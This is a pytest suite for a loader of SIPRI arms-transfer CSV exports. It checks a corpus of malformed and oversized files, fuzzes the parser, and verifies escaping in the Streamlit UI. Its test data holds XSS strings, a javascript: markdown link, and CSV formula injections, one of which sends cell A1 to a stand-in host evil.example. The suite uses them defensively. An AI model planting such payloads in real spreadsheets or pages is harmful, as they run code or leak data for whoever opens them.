"""The bad-input corpus: every hostile file gives a named error or a result whose notes say why."""

from __future__ import annotations

import contextlib
import csv
import math
import os
import re
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs
from streamlit.testing.v1 import AppTest

from analysis.export import neutralise_cell
from analysis.schema import FLOW_COLUMNS
from analysis.sipri import SipriExport, SipriFormatError, read_sipri
from analysis.store import MAX_UPLOAD_MB, Store

from .conftest import examples

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "data" / "bad"
EXPECTED_CSV = BAD / "EXPECTED.csv"
CORPUS = sorted(p for p in BAD.iterdir() if p.name not in (EXPECTED_CSV.name, "GENERATED.csv"))

TIV_PREAMBLE = (
    "Volume of transfers of major arms\n"
    "Source: SIPRI Arms Transfers Database (c) SIPRI.\n"
    "Data generated: 10 Oct 2024 6:39:28 PM\n"
    "\n"
)
TIV_HEADER = "Supplier,2019,2020,2021,2019-2021,Percentage,Sum total years,Percentage of total\n"
D_HEADER = (
    "SIPRI AT Database ID,Supplier,Recipient,Designation,Description,Armament category,"
    "Order date,Order date is estimate,Numbers delivered,Numbers delivered is estimate,"
    "Delivery year,Delivery year is estimate,Status,SIPRI estimate,TIV deal unit,"
    "TIV delivery values,Local production\n"
)
TEN_MB = 10 * 1024 * 1024

# Names that must reach the store exactly as written (the UI escapes them, never the loader).
HOSTILE_NAMES = {
    "html_country_names.csv": [
        "<b>Russia</b>",
        "<img src=x onerror=alert(1)>",
        "<script>alert('x')</script>",
    ],
    "formula_country_names.csv": [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-1+2",
        "@SUM(1+1)*cmd",
    ],
    "markdown_injection_names.csv": [
        "[click](javascript:alert(1))",
        "**bold** _it_ `code`",
        "$\\frac{1}{0}$",
    ],
}
FORMULA_NAMES = HOSTILE_NAMES["formula_country_names.csv"] + ["@SUM(A1)", "-2+3"]


def expectations() -> dict[str, dict[str, str]]:
    with EXPECTED_CSV.open(newline="", encoding="utf-8") as fh:
        return {row["file"]: row for row in csv.DictReader(fh)}


class Hang(Exception):
    """The loader ran past the watchdog: a hang, not a slow test."""


@contextlib.contextmanager
def watchdog(seconds: int = 60):
    """Turn a hang into a failure instead of a stuck suite (generous: never a timing check)."""

    def fire(signum, frame):
        raise Hang(f"read_sipri still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def read_or_error(source) -> SipriExport | SipriFormatError:
    """The export, or the SipriFormatError; any other exception propagates and fails the test."""
    try:
        return read_sipri(source)
    except SipriFormatError as err:
        return err


def assert_user_sentence(err: SipriFormatError) -> None:
    assert isinstance(err.line, int) and err.line >= 0
    reason = err.reason
    # A sentence: a capital (or a quoted name from the file) first, a full stop last.
    assert reason and (reason[0].isupper() or reason[0] in "'\"") and reason.endswith("."), reason
    for leak in ("Traceback", "Error(", "Exception", "\n"):
        assert leak not in reason, reason


def assert_sound_result(export: SipriExport) -> None:
    assert export.notes, "a result must say what was understood"
    assert list(export.flows.columns) == FLOW_COLUMNS
    tiv = export.flows["tiv"].to_numpy(dtype="float64")
    assert all(math.isfinite(v) and v >= 0 for v in tiv)


# --------------------------------------------------------------------------- the corpus


def test_corpus_is_large_enough_and_small_enough_to_commit():
    assert len(CORPUS) >= 60
    sizes = [p.stat().st_size for p in CORPUS]
    assert sum(sizes) + EXPECTED_CSV.stat().st_size < 1024 * 1024
    assert max(sizes) <= 256 * 1024


def test_expected_table_has_no_row_without_a_file():
    names = {p.name for p in CORPUS}
    table = expectations()
    assert set(table) <= names, sorted(set(table) - names)
    assert {row["outcome"] for row in table.values()} == {"error", "ok"}
    assert all(row["words"].strip() for row in table.values())


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: p.name)
def test_corpus_file_gives_its_expected_error_or_notes(path):
    row = expectations().get(path.name)
    if row is None:
        pytest.fail(f"{path.name} has no row in {EXPECTED_CSV.name}: add its expected outcome")
    with watchdog():
        result = read_or_error(path)
    words = [w for w in row["words"].split(";") if w]
    if row["outcome"] == "error":
        assert isinstance(result, SipriFormatError), f"expected an error, got notes {result.notes}"
        assert_user_sentence(result)
        text = result.reason
    else:
        assert isinstance(result, SipriExport), f"expected a result, got: {result}"
        assert_sound_result(result)
        text = " ".join(result.notes)
    for word in words:
        assert word in text, (word, text)


def test_bytes_and_path_sources_agree_on_the_corpus():
    # The path variant gives the loader a file name hint; the outcome must not depend on it here.
    for path in CORPUS:
        a, b = read_or_error(path), read_or_error(path.read_bytes())
        assert type(a) is type(b), path.name
        if isinstance(a, SipriFormatError):
            assert (a.reason, a.line) == (b.reason, b.line), path.name
        else:
            pd.testing.assert_frame_equal(a.flows, b.flows)


# --------------------------------------------------------------------------- hostile names


@pytest.mark.parametrize("name", sorted(HOSTILE_NAMES))
def test_hostile_names_come_through_as_plain_text(name):
    export = read_sipri(BAD / name)
    suppliers = set(export.flows["supplier"].dropna())
    assert set(HOSTILE_NAMES[name]) <= suppliers
    assert set(HOSTILE_NAMES[name]) <= set(export.unknown_names)


def test_formula_names_are_neutralised_for_spreadsheets():
    registered = set(read_sipri(BAD / "formula_in_register.csv").flows["supplier"])
    assert {"@SUM(A1)", "-2+3"} <= registered
    for name in FORMULA_NAMES:
        assert neutralise_cell(name) == "'" + name
    # HTML is not a formula: it is left alone here and escaped by the UI instead.
    for name in HOSTILE_NAMES["html_country_names.csv"]:
        assert neutralise_cell(name) == name


UNESCAPED_TAG = re.compile(r"(?<!\\)<(?:script|img|b>)")
TEXT_ELEMENTS = ("markdown", "caption", "warning", "error", "info", "success", "title", "header")


def test_html_names_uploaded_on_the_data_page_stay_text(app_db):
    name = "html_country_names.csv"
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.switch_page("pages/data.py")
    at.run()
    at.get("file_uploader")[0].set_value([(name, (BAD / name).read_bytes(), "text/csv")]).run()
    assert not at.exception, [e.value for e in at.exception]
    shown = []
    for kind in TEXT_ELEMENTS:
        for element in at.get(kind):
            body = str(element.value)
            shown.append(body)
            assert not getattr(element, "allow_html", False) or "<" not in body, body
            # Every '<' from the file arrives escaped, so markdown cannot turn it into a tag.
            assert not UNESCAPED_TAG.search(body), body
    page_text = " ".join(shown).replace("\\", "")
    for hostile in HOSTILE_NAMES[name]:
        assert hostile in page_text, hostile  # shown to the user, as text
    table = next(t.value for t in at.dataframe if "supplier" in t.value.columns)
    assert set(HOSTILE_NAMES[name]) <= set(table["supplier"])

    at.button(key=next(b.key for b in at.button if (b.key or "").startswith("data_save_"))).click()
    at.run()
    assert not at.exception
    stored = set(Store(app_db).flows().frame["supplier"].dropna())
    assert set(HOSTILE_NAMES[name]) <= stored


# --------------------------------------------------------------------------- huge inputs


def huge_inputs() -> dict[str, bytes]:
    """Generated at run time: these must never be committed."""
    wide_years = ",".join(str(1950 + k % 100) for k in range(100_000))
    return {
        "10MB_letters_one_line": b"a" * TEN_MB,
        "10MB_commas_one_line": b"," * TEN_MB,
        "10MB_quote_then_text": b'"' + b"x" * TEN_MB,
        "10MB_data_row": (TIV_PREAMBLE + TIV_HEADER + "Russia" + ",1" * (TEN_MB // 2)).encode(),
        "10MB_register_record": (
            TIV_PREAMBLE.replace("Volume of", "Transfers of major") + D_HEADER
        ).encode()
        + b"101," * (TEN_MB // 4),
        "100000_column_header": (TIV_PREAMBLE + "Supplier," + wide_years + "\n").encode(),
        "100000_column_first_line": ("," + wide_years + "\nRussia,1\n").encode(),
        "100000_column_text_header": (
            TIV_PREAMBLE + "Supplier,2020" + ",x" * 100_000 + "\nRussia,1\n"
        ).encode(),
    }


@pytest.mark.parametrize("name", sorted(huge_inputs()))
def test_huge_lines_are_refused_with_a_sentence(name):
    data = huge_inputs()[name]
    with watchdog():
        result = read_or_error(data)
    assert isinstance(result, SipriFormatError), f"{name}: {result.notes}"
    assert_user_sentence(result)


@pytest.mark.slow
def test_cli_refuses_a_file_far_above_the_limit_without_reading_it(tmp_path):
    huge = tmp_path / "whole-database.csv"
    with open(huge, "wb") as fh:  # sparse: 64 GB by stat, no disk used
        fh.truncate(64 * 1024**3)
    # With 3 GB of address space, reading the file whole would fail with MemoryError.
    limit = 3 * 1024**3

    def cap_memory():
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    run = subprocess.run(
        [sys.executable, "-m", "analysis", "import", str(huge)],
        cwd=ROOT,
        env={**os.environ, "ARMS_DB": str(tmp_path / "arms.sqlite")},
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=cap_memory,
    )
    assert run.returncode == 2, run.stderr
    assert f"above the upload limit of {MAX_UPLOAD_MB} MB" in run.stderr
    assert "65536.0 MB" in run.stderr  # the size, computed from stat, not from reading
    assert "Traceback" not in run.stderr and "MemoryError" not in run.stderr


# --------------------------------------------------------------------------- known gaps


def test_a_row_opened_by_an_unbalanced_quote_is_read_and_reported():
    export = read_sipri(BAD / "quote_unclosed_in_row.csv")
    assert "Russia" in set(export.flows["supplier"])
    assert any("unbalanced quote" in n and "9" in n for n in export.notes)


def test_text_in_register_tiv_cells_is_reported():
    export = read_sipri(BAD / "register_c_text_in_numbers.csv")
    assert any("n/a" in note or "not a number" in note for note in export.notes)


def test_rows_on_another_separator_are_read_with_a_note():
    result = read_or_error(BAD / "rows_semicolon_header_comma.csv")
    assert isinstance(result, SipriExport)
    assert not result.flows.empty
    assert not any("empty in every row" in n for n in result.notes)


def test_utf16_without_bom_is_read():
    result = read_or_error(BAD / "utf16_le_no_bom.csv")
    assert isinstance(result, SipriExport) and not result.flows.empty


# --------------------------------------------------------------------------- fuzzing

SMALL = [p.read_bytes() for p in CORPUS if p.stat().st_size < 20_000]
TOKENS = [
    b",",
    b"\n",
    b"\r\n",
    b";",
    b"\t",
    b'"',
    b'""',
    b"\x00",
    b"0 ",
    b"-1",
    b"inf",
    b"nan",
    b"1e308",
    b"9999",
    b"?",
    b"\xff\xfe",
    b"Total exports to India",
    b"Supplier,2020,2021\n",
    b"<script>",
    b"=HYPERLINK(",
]


@settings(max_examples=examples(250), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hs.sampled_from(SMALL), hs.data())
def test_mutated_corpus_gives_a_result_or_the_named_error(base, data):
    """Cut, splice, repeat and inject tokens into corpus files: never another exception."""
    out = bytearray(base)
    for _ in range(data.draw(hs.integers(1, 4), label="mutations")):
        n = len(out)
        start = data.draw(hs.integers(0, n))
        end = data.draw(hs.integers(start, min(n, start + 200)))
        kind = data.draw(hs.sampled_from(["token", "bytes", "repeat", "delete"]))
        if kind == "token":
            out[start:end] = data.draw(hs.sampled_from(TOKENS))
        elif kind == "bytes":
            out[start:end] = data.draw(hs.binary(max_size=12))
        elif kind == "repeat":
            out[start:start] = out[start:end]
        else:
            del out[start:end]
    with watchdog():
        result = read_or_error(bytes(out))
    if isinstance(result, SipriFormatError):
        assert_user_sentence(result)
    else:
        assert_sound_result(result)
